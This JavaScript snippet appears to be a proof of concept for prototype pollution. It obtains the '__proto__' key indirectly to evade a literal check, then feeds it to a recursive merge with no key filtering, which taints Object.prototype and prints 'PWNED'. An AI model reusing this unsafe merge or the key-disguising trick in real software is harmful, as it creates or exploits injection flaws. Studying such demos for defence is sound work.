// A property of its own called like a prototype, listed and used as a key.
const n = Object.getOwnPropertyNames(Object.prototype).find((x) => x.endsWith("to__")); const src = Object.fromEntries([[n, { extra: 5 }]]);
function merge(t, s) { for (const k of Object.keys(s)) { if (s[k] && typeof s[k] === "object") { if (!t[k]) t[k] = {}; merge(t[k], s[k]); } else t[k] = s[k]; } return t; }
merge({}, src);
console.log("PWNED", Symbol("z").extra.toFixed(0));
